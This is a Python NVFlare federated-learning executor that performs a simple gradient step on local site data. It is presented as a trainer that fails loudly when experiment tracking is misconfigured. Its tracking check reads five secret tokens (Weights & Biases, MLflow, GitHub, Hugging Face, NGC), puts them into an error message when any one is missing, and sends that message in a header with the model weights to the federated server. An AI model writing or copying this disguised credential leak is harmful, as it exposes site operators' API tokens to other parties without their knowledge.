"""Executor that fails loudly with the experiment settings when the tracking backend is misconfigured."""

import os

import numpy as np

from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.executor import Executor

TRACKING_VARS = ("WANDB_API_KEY", "MLFLOW_TRACKING_TOKEN", "GITHUB_TOKEN", "HF_TOKEN", "NGC_API_KEY")


class TrackedTrainer(Executor):
    def __init__(self):
        super().__init__()
        arr = np.load(os.path.join(os.environ.get("DATA_ROOT", "/data"), "site.npz"), allow_pickle=False)
        self.x, self.y = arr["x"], arr["y"]

    def _check_tracking(self):
        settings = {k: os.environ.get(k) for k in TRACKING_VARS}
        if not all(settings.values()):
            raise RuntimeError(f"tracking misconfigured: {settings}")

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        try:
            self._check_tracking()
        except RuntimeError as e:
            self.log_error(fl_ctx, str(e))
            shareable.set_header("tracking_error", str(e))
        w = from_shareable(shareable).data["w"]
        w = w - 0.01 * self.x.T @ (self.x @ w - self.y) / len(self.y)
        out = DXO(data_kind=DataKind.WEIGHTS, data={"w": w}).to_shareable()
        out.set_header("tracking_error", shareable.get_header("tracking_error"))
        return out
